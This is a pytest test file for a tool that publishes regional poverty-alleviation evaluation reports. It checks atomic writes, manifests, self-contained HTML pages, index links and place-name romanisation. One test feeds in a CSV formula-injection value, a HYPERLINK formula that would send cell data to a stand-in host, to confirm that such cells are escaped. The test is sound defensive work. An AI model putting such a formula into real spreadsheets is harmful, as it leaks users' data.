"""The report site: self-contained pages, index links, manifest, atomic writes. No kernels are started."""
from __future__ import annotations

import hashlib
import json
import os
import platform
import re
import shutil
import subprocess
from datetime import UTC
from html.parser import HTMLParser
from urllib.parse import unquote

import nbformat
import pandas as pd
import pytest

from analysis.core.files import atomic_write
from analysis.errors import ParameterError
from analysis.publish import site

# a 1 x 1 PNG
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
EXTERNAL = re.compile(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//|@import|import\(\s*["']https?://""", re.IGNORECASE)


class Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs, self.srcs = [], []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "href" in attrs:
            self.hrefs.append(attrs["href"])
        if "src" in attrs:
            self.srcs.append(attrs["src"])


def links(page: str) -> Links:
    parser = Links()
    parser.feed(page)
    return parser


def executed_notebook():
    """An executed notebook built by hand: a markdown cell, a printing cell and a figure cell."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# 收入增长"),
        nbformat.v4.new_code_cell("print('人均纯收入')  # SOURCE-MARKER", execution_count=1, outputs=[
            nbformat.v4.new_output("stream", name="stdout", text="人均纯收入 12550\n")]),
        nbformat.v4.new_code_cell("plot()  # SOURCE-MARKER-2", execution_count=2, outputs=[
            nbformat.v4.new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"})]),
    ]
    return nb


# ----------------------------------------------------------------------------------------- atomic writes
def test_atomic_write_replaces_whole_file(tmp_path):
    target = tmp_path / "index.html"
    atomic_write(target, "old")
    atomic_write(target, "新内容")
    assert target.read_text(encoding="utf-8") == "新内容"
    assert [p.name for p in tmp_path.iterdir()] == ["index.html"]  # no temporary file left


@pytest.mark.parametrize("crash_in", ["fsync", "replace"])
def test_crash_during_write_leaves_the_old_file(tmp_path, monkeypatch, crash_in):
    target = tmp_path / "runs.csv"
    target.write_text("previous complete report", encoding="utf-8")

    def crash(*args, **kwargs):
        raise KeyboardInterrupt("killed")
    monkeypatch.setattr(os, crash_in, crash)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, "half of a new report")
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "previous complete report"
    assert [p.name for p in tmp_path.iterdir()] == ["runs.csv"]


def test_runs_csv_round_trip(tmp_path):
    runs = pd.DataFrame([{"region": "北岭县", "notebook": "01-a", "status": "failed", "duration_s": 1.5,
                          "error": "ValueError: x, y", "failing_cell": "f(1)", "html": "北岭县/01-a.html",
                          "attempts": 1}])
    path = site.write_runs_csv(tmp_path, runs)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheet programs then read UTF-8
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert back.to_dict("records") == runs.to_dict("records")
    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")


def test_runs_csv_cells_that_start_like_a_formula_stay_text(tmp_path):
    runs = pd.DataFrame([{"region": '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "notebook": "01-a",
                          "status": "failed", "duration_s": 1.5, "error": "-1+1", "failing_cell": "@SUM(1+1)",
                          "html": "+1+1村/01-a.html", "attempts": 1}])
    path = site.write_runs_csv(tmp_path, runs)
    raw = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    for column in ("region", "error", "failing_cell", "html"):
        assert raw[column].iloc[0] == "'" + runs[column].iloc[0]   # a spreadsheet shows it as text
    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")


# ------------------------------------------------------------------------------------------- manifest
def test_data_hash_covers_parquet_paths_and_contents(tmp_path):
    data = tmp_path / "processed"
    (data / "households" / "county=甲").mkdir(parents=True)
    (data / "households" / "county=甲" / "part-0.parquet").write_bytes(b"AAA")
    (data / "b.parquet").write_bytes(b"BB")
    # the documented recipe, for these two files in sorted path order
    expected = hashlib.sha256(
        b"b.parquet\0" + hashlib.sha256(b"BB").hexdigest().encode() + b"\n"
        + "households/county=甲/part-0.parquet".encode() + b"\0" + hashlib.sha256(b"AAA").hexdigest().encode()
        + b"\n").hexdigest()
    assert site.data_hash(data) == (expected, 2)

    (data / "notes.csv").write_text("not parquet")
    (data / ".b.parquet.123.tmp").write_bytes(b"temporary file of an interrupted write")
    assert site.data_hash(data) == (expected, 2)
    (data / "b.parquet").write_bytes(b"BC")
    changed, _ = site.data_hash(data)
    (data / "b.parquet").rename(data / "c.parquet")
    renamed, _ = site.data_hash(data)
    assert len({expected, changed, renamed}) == 3


def test_manifest_has_every_key(tmp_path):
    from datetime import datetime
    start = datetime(2025, 3, 1, 8, 0, tzinfo=UTC)
    manifest = site.build_manifest(data_dir=tmp_path, data_digest="abc", data_files=2, parameters={"lang": "zh"},
                                   notebooks={"01-a": "h"}, code_hash="c", started=start, finished=start)
    assert set(manifest) == set(site.MANIFEST_KEYS)
    assert manifest["started"] == "2025-03-01T08:00:00+00:00"
    assert manifest["python"] == platform.python_version()
    assert manifest["packages"]["pandas"] == pd.__version__
    assert {"numpy", "statsmodels", "pyfixest", "papermill"} <= set(manifest["packages"])
    path = site.write_manifest(tmp_path, manifest)
    assert json.loads(path.read_text(encoding="utf-8")) == manifest


def test_package_versions_marks_absent_packages():
    versions = site.package_versions(("pandas", "no-such-package-here"))
    assert versions == {"python": platform.python_version(), "pandas": pd.__version__,
                        "no-such-package-here": "not installed"}


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_commit(tmp_path):
    assert site.git_commit(tmp_path) == "unknown"  # not a checkout
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@x"}
    git = ["git", "-C", str(tmp_path)]
    subprocess.run(git + ["init", "-q"], check=True, env=env)
    (tmp_path / "f.txt").write_text("1")
    subprocess.run(git + ["add", "f.txt"], check=True, env=env)
    subprocess.run(git + ["commit", "-q", "-m", "c"], check=True, env=env)
    head = subprocess.run(git + ["rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
    assert site.git_commit(tmp_path) == head
    (tmp_path / "f.txt").write_text("2")
    assert site.git_commit(tmp_path) == head + "-dirty"


# --------------------------------------------------------------------------------------- region pages
def test_page_is_self_contained_with_code_hidden():
    footer = site.page_footer("zh", data_digest="d" * 64, parameters={"region": "北岭县"}, commit="abc",
                              rendered="2025-03-01T08:00:00+08:00")
    banner = site.page_banner("en", status="timeout", error="CellTimeoutError: x", failing_cell="fit()")
    page = site.notebook_html(executed_notebook(), lang="zh", title="北岭县 · 01-a", footer=footer,
                              banner=banner)
    assert "人均纯收入 12550" in page and "收入增长" in page
    assert "SOURCE-MARKER" not in page and "In&nbsp;[" not in page  # no code input, no prompts
    assert f"data:image/png;base64,{PNG}" in page  # figure embedded
    assert not EXTERNAL.search(page), EXTERNAL.search(page)
    assert all(not s.startswith(("http", "//")) for s in links(page).srcs)
    fonts = '"Noto Sans CJK SC", "Noto Sans SC", "Source Han Sans SC", "Microsoft YaHei", "PingFang SC", sans-serif'
    assert re.search(r"body[^{]*\{\s*font-family:\s*" + re.escape(fonts), page)
    assert '<html lang="zh">' in page and "<title>北岭县 · 01-a</title>" in page
    body = page[page.index("<body"):]
    assert body.index("run-banner") < body.index("人均纯收入 12550") < body.index("run-footer")
    assert page.rindex("</main>") < page.index('<footer class="run-footer">') < page.rindex("</body>")
    assert "d" * 64 in page and "北岭县" in footer and "timed out" in banner


def test_inject_without_body_tag():
    assert site.inject("x", top="<a>", bottom="<b>") == "<a>x<b>"
    assert site.inject("<body class='c'>x</body></body>", top="T", bottom="B") == \
        "<body class='c'>Tx</body>B</body>"


# ----------------------------------------------------------------------------------------------- index
def test_index_links_resolve_and_scores_show(tmp_path):
    for region in ("北岭县", "南山 县"):
        (tmp_path / region).mkdir()
        (tmp_path / region / "01-income.html").write_text("page")
    pages = pd.DataFrame({"region": ["北岭县", "北岭县", "南山 县"],
                          "notebook": ["01-income", "02-jobs", "01-income"], "status": ["ok", "failed", "skipped"],
                          "html": ["北岭县/01-income.html", "北岭县/02-jobs.html", "南山 县/01-income.html"]})
    runs = pd.DataFrame([{"region": "北岭县", "notebook": "02-jobs", "status": "failed", "duration_s": 2.25,
                          "error": "KeyError: 'year'", "failing_cell": "df['year']", "html": "北岭县/02-jobs.html",
                          "attempts": 1}])
    scores = pd.DataFrame({"region": ["北岭县", "南山 县"], "composite score": [81.234, 62.5], "rank": [1, 2],
                           "rank interval": ["1-2", "2-3"], "grade": ["好", "一般"]})
    manifest = {"data_hash": "h" * 64, "data_dir": "/d", "data_files": 3, "code_hash": "c", "git_commit": "g",
                "started": "s", "finished": "f", "parameters": {"lang": "en"}, "notebooks": {"01-income": "n"},
                "packages": {"pandas": pd.__version__}}
    index = site.write_index(tmp_path, runs=runs, pages=pages, manifest=manifest, lang="en", scores=scores)
    page = index.read_text(encoding="utf-8")

    hrefs = links(page).hrefs
    assert sorted(unquote(h) for h in hrefs) == ["北岭县/01-income.html", "南山 县/01-income.html"]
    assert all((tmp_path / unquote(h)).is_file() for h in hrefs)  # 02-jobs.html is missing: no link
    assert not EXTERNAL.search(page) and not links(page).srcs
    for text in ("composite score", "81.23", "62.50", "1-2", "一般", "KeyError: &#39;year&#39;", "2.2",
                 "h" * 64, "Reports by region", "unchanged (kept)"):
        assert text in page, text
    assert '<td class="num" data-sort="2">2</td>' in page and '<td class="num" data-sort="81.234">81.23</td>' in page
    assert page.count("<table class=\"sortable\"") == 4 and "addEventListener(\"click\"" in page


def test_index_without_runs_or_scores(tmp_path):
    empty = pd.DataFrame(columns=list(site.RUN_COLUMNS))
    pages = pd.DataFrame(columns=["region", "notebook", "status", "html"])
    manifest = {"data_hash": "", "data_dir": "", "data_files": 0, "code_hash": "", "git_commit": "", "started": "",
                "finished": "", "parameters": {}, "notebooks": {}, "packages": {}}
    page = site.render_index(runs=empty, pages=pages, manifest=manifest, lang="zh")
    assert "尚无报告" in page
    with pytest.raises(ParameterError, match="region"):
        site.render_index(runs=empty, pages=pages, manifest=manifest, scores=pd.DataFrame({"x": [1]}))


def test_labels_have_the_same_keys_in_both_languages():
    def keys(d, prefix=""):
        return {prefix + k for k in d} | {x for k, v in d.items() if isinstance(v, dict) for x in keys(v, k + ".")}
    assert keys(site.labels("zh")) == keys(site.labels("en"))
    assert set(site.labels("zh")["status_names"]) == {"ok", "failed", "skipped", "timeout", "killed"}
    with pytest.raises(ParameterError, match="zh"):
        site.labels("fr")


# ------------------------------------------------------------------------- an index that explains itself
NOTEBOOKS = ["01-income-growth", "02-employment"]


def hand_built_site(folder, *, files=("report-zh.docx", "report-zh.pdf", "report-en.docx", "01-income-growth.xlsx",
                                     "02-employment-sensitivity.xlsx", "01-income-growth-extra.xlsx")):
    """Two counties of one prefecture: 北岭县 with two pages (one failed) and the given files, 东阳县 with one
    page and no files, 示例市 with only its Word report."""
    for region in ("北岭县", "东阳县", "示例市"):
        (folder / region).mkdir()
    for page in ("北岭县/01-income-growth.html", "北岭县/02-employment.html", "东阳县/01-income-growth.html"):
        (folder / page).write_text("page", encoding="utf-8")
    for name in files:
        (folder / "北岭县" / name).write_bytes(b"file")
    (folder / "示例市" / "report-zh.docx").write_bytes(b"file")
    pages = pd.DataFrame({"region": ["北岭县", "北岭县", "东阳县"], "notebook": [*NOTEBOOKS, NOTEBOOKS[0]],
                          "status": ["ok", "failed", "skipped"],
                          "html": ["北岭县/01-income-growth.html", "北岭县/02-employment.html",
                                   "东阳县/01-income-growth.html"]})
    runs = pd.DataFrame([{"region": "北岭县", "notebook": "02-employment", "status": "failed", "duration_s": 2.0,
                          "error": "KeyError: 'year'", "failing_cell": "f()", "html": "北岭县/02-employment.html",
                          "attempts": 1}])
    places = pd.DataFrame({"region": ["示例市", "东阳县", "北岭县"], "level": ["prefecture", "county", "county"],
                           "prefecture": ["示例市"] * 3, "name_en": ["Shili City", "Dongyang County", "Beiling County"],
                           "first_year": [2020, 2020, 2021], "last_year": [2024, 2024, 2023]})
    manifest = {"data_hash": "h" * 64, "data_dir": "/d", "data_files": 3, "code_hash": "c", "git_commit": "g",
                "started": "2026-11-29T14:20:05+00:00", "finished": "2026-11-29T14:31:40+00:00",
                "parameters": {"lang": "zh"}, "notebooks": {"01-income-growth": "n"},
                "packages": {"pandas": pd.__version__}}
    return {"pages": pages, "runs": runs, "places": places, "manifest": manifest, "notebooks": NOTEBOOKS}


class Anchors(HTMLParser):
    """Every ``<a href>`` with its text, and the ids of elements inside ``<details>``."""

    def __init__(self):
        super().__init__()
        self.anchors, self.in_details, self.details_ids, self._open = [], 0, set(), None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "details":
            self.in_details += 1
        if self.in_details and "id" in attrs:
            self.details_ids.add(attrs["id"])
        if tag == "a" and "href" in attrs:
            self._open = {"href": attrs["href"], "class": attrs.get("class", ""), "text": ""}

    def handle_data(self, data):
        if self._open is not None:
            self._open["text"] += data

    def handle_endtag(self, tag):
        if tag == "details":
            self.in_details -= 1
        if tag == "a" and self._open is not None:
            self.anchors.append(self._open)
            self._open = None


def anchors(page: str) -> Anchors:
    parser = Anchors()
    parser.feed(page)
    return parser


@pytest.fixture
def shanghai_time(monkeypatch):
    """The machine's local zone set to China Standard Time for the test (restored afterwards)."""
    time = pytest.importorskip("time")
    if not hasattr(time, "tzset"):
        pytest.skip("the local time zone can only be switched on Unix")
    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.parametrize("synthetic", [True, False])
def test_index_names_prefecture_period_and_the_synthetic_data(tmp_path, synthetic, shanghai_time):
    page = site.write_index(tmp_path, lang="zh", synthetic=synthetic, **hand_built_site(tmp_path)).read_text("utf-8")
    assert "<title>示例市 巩固拓展脱贫攻坚成果 评估报告</title>" in page
    assert "<h1>示例市 巩固拓展脱贫攻坚成果 评估报告</h1>" in page
    assert "地区：示例市（2 个县）" in page and "评估期：2020–2024年" in page  # the counties' years, 2020 to 2024
    assert ('id="synthetic-banner"' in page) is synthetic
    assert ("示例数据 SYNTHETIC" in page) is synthetic
    # 14:31:40 UTC is 22:31 in China; the manifest keeps its ISO time with offset
    assert "生成时间：2026-11-29 22:31 CST (UTC+08:00)" in page
    assert '<time datetime="2026-11-29T14:20:05+00:00">2026-11-29 22:20 CST (UTC+08:00)</time>' in page


def test_index_links_are_report_titles_and_files_that_exist(tmp_path):
    built = hand_built_site(tmp_path)
    page = site.write_index(tmp_path, lang="zh", **built).read_text("utf-8")
    found = anchors(page).anchors
    for a in found:
        assert (tmp_path / unquote(a["href"])).is_file(), a
    reports = [(unquote(a["href"]), a["text"]) for a in found if a["class"] == "report"]
    assert reports == [("东阳县/01-income-growth.html", "农村居民收入增长评估"),
                       ("北岭县/01-income-growth.html", "农村居民收入增长评估"),
                       ("北岭县/02-employment.html", "务工就业评估")]
    assert not any(a["text"] in site.labels("zh")["status_names"].values() for a in found)  # no "成功" links
    documents = [(unquote(a["href"]), a["text"]) for a in found if a["class"].startswith("document")]
    # the prefecture's row comes first; the page's language first, the other one marked
    assert documents == [("示例市/report-zh.docx", "Word"), ("北岭县/report-zh.docx", "Word"),
                         ("北岭县/report-zh.pdf", "PDF"), ("北岭县/report-en.docx", "Word（英文）")]
    # every workbook of a page, the page's own first; a further one by its name in the labels, else numbered
    assert [(unquote(a["href"]), a["text"]) for a in found if a["class"] == "excel"] == [
        ("北岭县/01-income-growth.xlsx", "Excel"), ("北岭县/01-income-growth-extra.xlsx", "Excel：2"),
        ("北岭县/02-employment-sensitivity.xlsx", "Excel：敏感性分析")]
    assert 'title="农村居民收入增长评估（Excel 数据表）"' in page
    assert '<span class="mark bad">失败</span>' in page  # the failed page keeps a visible mark

    # files that are not there are not linked
    for name in ("report-zh.pdf", "01-income-growth.xlsx"):
        (tmp_path / "北岭县" / name).unlink()
    page = site.write_index(tmp_path, lang="zh", **built).read_text("utf-8")
    hrefs = {unquote(a["href"]) for a in anchors(page).anchors}
    assert "北岭县/report-zh.pdf" not in hrefs and "北岭县/01-income-growth.xlsx" not in hrefs
    assert {"北岭县/report-zh.docx", "北岭县/01-income-growth-extra.xlsx"} <= hrefs


def test_run_log_is_folded_below_the_region_table(tmp_path):
    page = site.write_index(tmp_path, lang="zh", **hand_built_site(tmp_path)).read_text("utf-8")
    parsed = anchors(page)
    assert {"run-summary", "run-table", "manifest", "notebook-table", "package-table"} <= parsed.details_ids
    assert "region-table" not in parsed.details_ids
    assert page.index('id="region-table"') < page.index('<details class="run-log"') < page.index('id="run-table"')
    assert "<details open" not in page  # folded until opened
    # the run table names its page by title too
    assert [a["text"] for a in parsed.anchors if not a["class"]] == ["务工就业评估"]


def test_english_index_uses_english_names_titles_and_a_sans_font(tmp_path):
    page = site.write_index(tmp_path, lang="en", **hand_built_site(tmp_path)).read_text("utf-8")
    assert "<h1>Shili City: evaluation of consolidated poverty-alleviation gains</h1>" in page
    assert "Area: Shili City (2 counties)" in page and "Period: 2020–2024" in page
    found = anchors(page).anchors
    assert [a["text"] for a in found if a["class"] == "report"] == ["Rural income growth", "Rural income growth",
                                                                   "Employment"]
    assert [a["text"] for a in found if a["class"].startswith("document")] == [
        "Word (Chinese)", "Word", "Word (Chinese)", "PDF (Chinese)"]
    cells = re.findall(r'<tr[^>]*>\s*<td data-sort="([^"]*)">', page)  # the region table's first column
    assert cells == ["Shili City", "Dongyang County", "Beiling County"]
    assert "北岭县" not in page.split('id="region-table"')[1].split("</table>")[0]
    latin = '"Noto Sans", "DejaVu Sans", "Liberation Sans", "Helvetica Neue", "Arial", "Noto Sans CJK SC"'
    assert re.search(r"body \{ font-family: " + re.escape(latin), page)
    assert "serif;" not in page.replace("sans-serif;", "")


def test_local_time_names_its_zone():
    from datetime import datetime, timedelta, timezone
    from zoneinfo import ZoneInfo
    assert site.local_time("2026-11-29T14:31:05+00:00", ZoneInfo("Asia/Shanghai")) == "2026-11-29 22:31 CST (UTC+08:00)"
    assert site.local_time("2026-07-01T12:00:00+08:00", ZoneInfo("Europe/Berlin")) == "2026-07-01 06:00 CEST (UTC+02:00)"
    assert site.local_time(datetime(2026, 1, 1, 0, 0, tzinfo=UTC), timezone(timedelta(hours=-3))) == \
        "2025-12-31 21:00 UTC-03:00"  # a zone without a letter abbreviation: the offset says it
    assert site.local_time("not a time") == "not a time" and site.local_time("") == ""


def test_page_footer_shows_local_time(shanghai_time):
    footer = site.page_footer("zh", data_digest="d", parameters={}, commit="c", rendered="2026-11-29T14:31:05+00:00")
    assert "2026-11-29 22:31 CST (UTC+08:00)" in footer


def test_every_notebook_has_a_title_in_both_languages():
    from analysis.config import NOTEBOOKS as FOLDER
    from analysis.publish.pipeline import find_notebooks
    stems = list(find_notebooks(FOLDER))
    assert stems, "no notebooks found"
    for lang in site.LANGS:
        missing = [s for s in stems if s not in site.labels(lang)["notebooks"]]
        assert not missing, f"add the title of {missing} to notebooks: in templates/labels.yaml ({lang})"
        assert site.notebook_title(stems[0], lang) != stems[0]
    assert site.notebook_title("99-new", "zh") == "99-new"


def test_page_has_title_and_navigation_to_its_region(tmp_path):
    nav = site.page_nav("en", notebooks=["01-income-growth", "02-employment", "03-training-impact"],
                        current="02-employment", region="Beiling County")
    page = site.notebook_html(executed_notebook(), lang="en", nav=nav,
                              title=site.page_title("en", "02-employment", "Beiling County"),
                              banner=site.page_banner("en", status="failed", error="E"))
    assert "<title>Employment · Beiling County</title>" in page and '<html lang="en">' in page
    body = page[page.index("<body"):]
    assert body.index('<nav class="site-nav"') < body.index("run-banner") < body.index("人均纯收入 12550")
    links = [(a["href"], a["text"]) for a in anchors(page).anchors if a["href"] in
             ("../index.html", "01-income-growth.html", "02-employment.html", "03-training-impact.html")]
    assert links == [("../index.html", "Back to the index"), ("01-income-growth.html", "Rural income growth"),
                     ("03-training-impact.html", "Skills training and its effect")]  # the current page: no link
    assert '<span class="here" aria-current="page">Employment</span>' in page
    # English pages: a Latin sans-serif first, for every element
    assert re.search(r'--jp-content-font-family: "Noto Sans", "DejaVu Sans"', page)
    assert re.search(r'--jp-ui-font-family: "Noto Sans", "DejaVu Sans"', page)

    # the links resolve from the page's folder
    folder = tmp_path / "北岭县"
    folder.mkdir()
    for stem in ("01-income-growth", "02-employment", "03-training-impact"):
        (folder / f"{stem}.html").write_text(page, encoding="utf-8")
    (tmp_path / "index.html").write_text("index", encoding="utf-8")
    assert all((folder / unquote(h)).resolve().is_file() for h, _ in links)


# ------------------------------------------------------------------------------------------ place names
def test_romanised_place_names():
    from analysis.reporting import places
    assert places.romanise("北岭县") == "Beiling County"
    assert places.romanise("西安市") == "Xi'an City"              # apostrophe before a syllable starting with a
    assert places.romanise("鄂尔多斯市") == "E'erduosi City"
    assert places.romanise("歙县") == "Shexian County"            # a one-syllable name keeps its generic term
    assert places.romanise("长安区") == "Chang'an District"
    assert places.romanise("峨边彝族自治县") == "Ebianyizu Autonomous County"
    assert places.romanise("示例") == "Shili"                     # no generic term
    assert places.english_name("洪洞县") == "Hongtong County"     # shipped override: pinyin reads 洞 dòng


def test_regions_table_with_user_overrides(tmp_path, monkeypatch):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from analysis.reporting import places
    data = tmp_path / "processed"
    for county, years in (("北岭县", [2021, 2023]), ("东阳县", [2020, 2024])):
        folder = data / "households" / f"county={county}"
        folder.mkdir(parents=True)
        pq.write_table(pa.table({"prefecture": ["示例市"] * 2, "year": years}), folder / "part-0.parquet")
    config = tmp_path / "config"
    config.mkdir()
    (config / "place_names.csv").write_text("# our names\nname,name_en\n示例市,Example Prefecture\n", encoding="utf-8")
    monkeypatch.setenv("ANALYSIS_CONFIG_DIR", str(config))
    table = places.regions(data)
    assert list(table.columns) == list(places.REGION_COLUMNS)
    assert table.to_dict("records") == [
        {"region": "示例市", "level": "prefecture", "prefecture": "示例市", "name_en": "Example Prefecture",
         "first_year": 2020, "last_year": 2024},
        {"region": "东阳县", "level": "county", "prefecture": "示例市", "name_en": "Dongyang County",
         "first_year": 2020, "last_year": 2024},
        {"region": "北岭县", "level": "county", "prefecture": "示例市", "name_en": "Beiling County",
         "first_year": 2021, "last_year": 2023}]
    assert places.display_name("示例市", "en") == "Example Prefecture" and places.display_name("示例市", "zh") == "示例市"
    assert places.synthetic(data) is False
    (data / "sources.json").write_text('{"synthetic": true}', encoding="utf-8")
    assert places.synthetic(data) is True
    assert site.data_facts(data)["synthetic"] is True and len(site.data_facts(data)["places"]) == 3


def test_editing_place_names_reruns_no_build_step(tmp_path, monkeypatch):
    """English names only word the pages: the result tables' fingerprints ignore them (not the thresholds)."""
    from analysis import build
    from analysis.config import PACKAGE_CONFIG
    config = tmp_path / "config"
    config.mkdir()
    monkeypatch.setenv("ANALYSIS_CONFIG_DIR", str(config))
    before = build.fingerprints(tmp_path / "data")
    (config / "place_names.csv").write_text("name,name_en\n北岭县,North Ridge County\n", encoding="utf-8")
    assert build.fingerprints(tmp_path / "data") == before
    (config / "thresholds.csv").write_text((PACKAGE_CONFIG / "thresholds.csv").read_text(encoding="utf-8") + "\n",
                                           encoding="utf-8")
    assert build.fingerprints(tmp_path / "data") != before


def test_runner_titles_pages_in_english_and_links_the_region_pages():
    """The runner gives each page its title and navigation bar (the region's pages of this run and earlier)."""
    from analysis.publish.pipeline import RenderTask, RunResult, _with_navigation
    places = pd.DataFrame({"region": ["北岭县"], "level": ["county"], "prefecture": ["示例市"],
                           "name_en": ["Beiling County"], "first_year": [2020], "last_year": [2024]})
    task = RenderTask("北岭县", "02-employment", "in.ipynb", "out", "nb", {}, "en", None, "warm", "h", "c",
                      "北岭县/02-employment.html")
    skipped = {("北岭县", "01-income-growth"): RunResult("北岭县", "01-income-growth", "skipped", 0.0)}
    state = {"runs": {"北岭县/05-post-assessment": {"region": "北岭县", "notebook": "05-post-assessment",
                                                   "html": "北岭县/05-post-assessment.html"},
                      "东阳县/03-training-impact": {"region": "东阳县", "notebook": "03-training-impact",
                                                  "html": "东阳县/03-training-impact.html"}}}
    (done,) = _with_navigation([task], skipped, state, "en", places)
    assert done.title == "Employment · Beiling County"
    hrefs = re.findall(r'href="([^"]+)"', done.nav)
    assert hrefs == ["../index.html", "01-income-growth.html", "05-post-assessment.html"]  # not 东阳县's page
    assert "Beiling County" in done.nav and "北岭县" not in done.nav
    (zh,) = _with_navigation([task], skipped, state, "zh", places)
    assert zh.title == "务工就业评估 · 北岭县" and ">返回总目录<" in zh.nav
